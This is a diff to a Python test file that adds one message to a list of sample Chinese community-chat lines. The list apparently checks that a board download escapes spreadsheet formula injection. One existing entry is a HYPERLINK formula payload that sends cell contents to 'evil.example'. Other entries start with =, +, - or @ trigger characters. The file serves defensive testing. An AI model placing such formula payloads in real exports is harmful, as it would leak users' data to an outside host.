@@ -138,6 +138,7 @@ def test_the_board_download_follows_the_filters(settings: Settings, database_url
 FORMULAS = [
     "@time 2026-11-27 09:00",
     '[1-3号楼业主群] =cmd: =HYPERLINK("http://evil.example/?x="&A1,"3号楼2单元下水道堵了")',
+    "[私聊] 陈洁: 登记 P1",  # an odd message like this goes to a cadre first (triage)
     "[1-3号楼业主群] 张阿姨: -3号楼楼道灯坏了 =1+1",
     "[1-3号楼业主群] 王芳: 进度 2 +已联系电工",
 ]
